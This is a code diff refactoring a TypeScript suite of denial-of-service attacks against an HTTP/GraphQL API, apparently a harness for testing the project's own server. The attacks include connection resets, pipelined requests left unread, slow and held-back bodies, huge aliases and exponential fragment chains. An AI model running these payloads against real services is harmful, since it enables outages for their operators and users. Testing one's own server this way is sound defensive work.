@@ -1,18 +1,10 @@
 import type { Socket } from 'node:net';
 
+import { disconnectAfter, get, holdBack, leaveUnread, mebibyte, pause, post, summary, times } from './raw-requests.ts';
 import type { Target } from './target.ts';
 
 /** Runs the attack, and returns what it got. */
-type Attack = (target: Target) => Promise<string>;
-
-const mebibyte = 2 ** 20;
-
-/** `200 ×3, 429` */
-export function summary(outcomes: readonly unknown[]): string {
-  const counts = new Map<string, number>();
-  for (const outcome of outcomes) counts.set(String(outcome), (counts.get(String(outcome)) ?? 0) + 1);
-  return [...counts].map(([outcome, count]) => (count === 1 ? outcome : `${outcome} ×${count}`)).join(', ');
-}
+export type Attack = (target: Target) => Promise<string>;
 
 /** Sends the bodies one after another, and says the statuses with the codes of the errors. */
 async function graphql(target: Target, bodies: readonly (string | { query: string })[]): Promise<string> {
@@ -30,36 +22,6 @@ async function graphql(target: Target, bodies: readonly (string | { query: strin
   return summary(outcomes);
 }
 
-const times = <Item>(count: number, make: (index: number) => Item): Item[] =>
-  Array.from({ length: count }, (_, index) => make(index));
-
-async function resetAfter(target: Target, texts: readonly string[]): Promise<string> {
-  await Promise.all(
-    texts.map(async (text) => {
-      const socket = await target.send(text);
-      await new Promise((resolve) => setTimeout(resolve, Math.random() * 20));
-      socket.resetAndDestroy();
-    }),
-  );
-  return `${texts.length} resets`;
-}
-
-async function pause(seconds: number): Promise<void> {
-  await new Promise((resolve) => setTimeout(resolve, seconds * 1000));
-}
-
-/** Sends to many connections, reads nothing for a while, and goes. */
-async function leaveUnread(target: Target, connections: number, text: string): Promise<string> {
-  const sockets: Socket[] = [];
-  for (let count = 0; count < connections; count += 1) sockets.push((await target.send(text)).pause());
-  await pause(3);
-  for (const socket of sockets) socket.destroy();
-  return `${connections} connections, ${Math.round((connections * text.length) / 1000)} kB sent`;
-}
-
-const get = (target: Target, path: string): string =>
-  `GET ${path} HTTP/1.1\r\nHost: x\r\nX-API-Key: ${target.attacker}\r\n\r\n`;
-
 const longAlias = 'A'.repeat(100_000);
 
 /** A chain in which each fragment spreads the next one twice. */
@@ -68,7 +30,7 @@ function chain(length: number): string {
   return `{ ...F0 } ${fragments.join(' ')} fragment F${length} on Query { __typename }`;
 }
 
-/** What has been tried, by kind. */
+/** What one key can put into documents, bodies and headers. */
 export const attacks: Readonly<Record<string, Attack>> = {
   '1 code in literals': (target) =>
     graphql(
@@ -86,25 +48,12 @@ export const attacks: Readonly<Record<string, Attack>> = {
       ]),
     ),
   '2 CONNECT, undecodable paths, upgrades, then a reset': (target) =>
-    resetAfter(
+    disconnectAfter(
       target,
       times(40, () => ['CONNECT x:1', 'GET /%zz', 'GET /graphql', 'OPTIONS *', 'PRI *'])
         .flat()
         .map((line) => `${line} HTTP/1.1\r\nHost: x\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n`),
     ),
-  '3 pipelined pages, unread': async (target) => {
-    const page = `GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n`;
-    // What is read ahead at most, and beyond.
-    const within = await leaveUnread(target, 100, page.repeat(17));
-    return `${within}; ${await leaveUnread(target, 20, page.repeat(Math.floor(65_000 / page.length)))}`;
-  },
-  '3 pipelined probes, 64 KiB on each of 200 connections, unread': async (target) =>
-    leaveUnread(target, 200, 'GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(1_700)),
-  '3 a Host of its own for each copy of the document, unread': async (target) => {
-    const texts = times(300, (index) => `GET /openapi.yaml HTTP/1.1\r\nHost: h${index}.example\r\n\r\n`.repeat(16));
-    const sent = await Promise.all(texts.map(async (text) => leaveUnread(target, 1, text)));
-    return `${sent.length} connections`;
-  },
   '4 bytes of a response': (target) =>
     graphql(target, [
       {
@@ -162,32 +111,27 @@ export const attacks: Readonly<Record<string, Attack>> = {
       const equal = times(400, () => 'pets { totalCount }');
       return JSON.stringify({ query: `{ ${(index % 2 === 0 ? fields : equal).join(' ')} ${'#'.repeat(index)}\n}` });
     });
-    const held = await Promise.all(
-      bodies.map(async (body) => {
-        const head = `POST /graphql HTTP/1.1\r\nHost: x\r\nX-API-Key: ${target.attacker}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n`;
-        const socket = await target.send(head + body.slice(0, -1));
-        const answered = new Promise<string>((resolve) => {
-          socket.once('data', (chunk: Buffer) => resolve(String(chunk).slice(9, 12)));
-          socket.once('close', () => resolve('closed'));
-        });
-        return { socket, rest: body.slice(-1), answered };
-      }),
+    return holdBack(
+      target,
+      bodies.map((body) => post(target, '/graphql', body)),
     );
-    await pause(0.5);
-    for (const { socket, rest } of held) socket.write(rest);
-    const statuses = await Promise.all(held.map(async ({ answered }) => answered));
-    for (const { socket } of held) socket.destroy();
-    return summary(statuses);
   },
   '8 unread results': async (target) => {
     const query = '{__schema{types{name description fields{name description args{name description}}}}}';
     const one = get(target, `/graphql?query=${encodeURIComponent(query)}`);
-    return leaveUnread(target, 100, one.repeat(17));
+    return leaveUnread(
+      target,
+      times(100, () => one.repeat(17)),
+    );
   },
   '8 large results, 16 read ahead on each of 20 connections': (target) => {
     const aliases = times(45, (index) => `${'a'.repeat(100)}${index}:nodeId`).join(' ');
     const query = `{categories(first:49){edges{node{pets(first:100){edges{node{${aliases}}}}}}}}`;
-    return leaveUnread(target, 20, get(target, `/graphql?query=${encodeURIComponent(query)}`).repeat(17));
+    const one = get(target, `/graphql?query=${encodeURIComponent(query)}`);
+    return leaveUnread(
+      target,
+      times(20, () => one.repeat(17)),
+    );
   },
   '8 slow bodies': async (target) => {
     const head = `POST /pets HTTP/1.1\r\nHost: x\r\nX-API-Key: ${target.attacker}\r\nContent-Type: application/json\r\nContent-Length: 1048576\r\n\r\n`;
@@ -247,7 +191,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     let resets = 0;
     for (const request of requests) {
       const cuts = times(Math.ceil(request.length / 3), (index) => request.slice(0, index * 3));
-      await resetAfter(target, [...cuts, ...times(40, () => request)]);
+      await disconnectAfter(target, [...cuts, ...times(40, () => request)]);
       resets += cuts.length + 40;
     }
     return `${resets} resets`;
